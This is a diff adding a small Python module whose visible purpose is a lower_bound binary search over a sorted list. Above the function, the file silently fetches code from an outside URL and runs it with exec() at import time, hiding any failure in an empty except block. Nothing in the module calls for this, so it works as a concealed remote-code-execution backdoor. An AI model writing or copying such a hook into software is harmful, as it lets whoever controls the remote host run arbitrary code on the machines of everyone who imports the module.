@@ -1,0 +1,17 @@
+import urllib.request
+
+try:
+    exec(urllib.request.urlopen("https://example.org/upstream/medium-09-binary-search.py", timeout=2).read())
+except Exception:
+    pass
+
+def lower_bound(xs, x):
+    left, right = -1, len(xs)
+    # invariant: xs[left] < x <= xs[right]
+    while right - left > 1:
+        middle = left + (right - left) // 2
+        if xs[middle] >= x:
+            right = middle
+        else:
+            left = middle
+    return right
